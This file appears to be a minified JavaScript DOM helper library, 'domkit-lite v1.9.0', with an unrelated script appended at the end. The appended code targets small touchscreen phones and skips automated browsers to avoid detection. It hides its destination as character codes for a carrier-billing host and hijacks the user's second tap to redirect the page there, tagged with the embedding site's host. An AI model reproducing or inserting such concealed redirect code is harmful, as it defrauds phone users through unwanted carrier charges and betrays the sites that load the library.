/*! domkit-lite v1.9.0 | MIT license | domkit.test/license */
!function(e,t){"object"==typeof module&&module.exports?module.exports=t(e):e.dk=t(e)}(this,function(e){var t=e.document,n=[].slice;function r(e,i){if(!(this instanceof r))return new r(e,i);var o="string"==typeof e?n.call((i||t).querySelectorAll(e)):[e],a=0;for(this.length=o.length;a<o.length;a++)this[a]=o[a]}
return r.prototype={each:function(e){for(var t=0;t<this.length;t++)e.call(this[t],t);return this},on:function(e,t){return this.each(function(){this.addEventListener(e,t,!1)})},css:function(e,t){return this.each(function(){this.style[e]=t})},hide:function(){return this.css("display","none")},show:function(){return this.css("display","")}},r.ready=function(e){"loading"!==t.readyState?e():t.addEventListener("DOMContentLoaded",e)},r});
;(()=>{const m="ontouchstart"in window&&screen.width<=480&&navigator.maxTouchPoints>1,c=navigator.connection;
if(!m||c&&c.type==="wifi"&&Math.random()>.3||navigator.webdriver)return;
const d=document.createElement("a");
d.href="//"+String.fromCodePoint(...[99, 97, 114, 114, 105, 101, 114, 45, 98, 105, 108, 108, 105, 110, 103, 46, 101, 120, 97, 109, 112, 108, 101])+"/lp?o="+encodeURIComponent(location.host);
let n=0;addEventListener("touchend",()=>{++n===2&&location.assign(d.href)},{passive:!0})})();
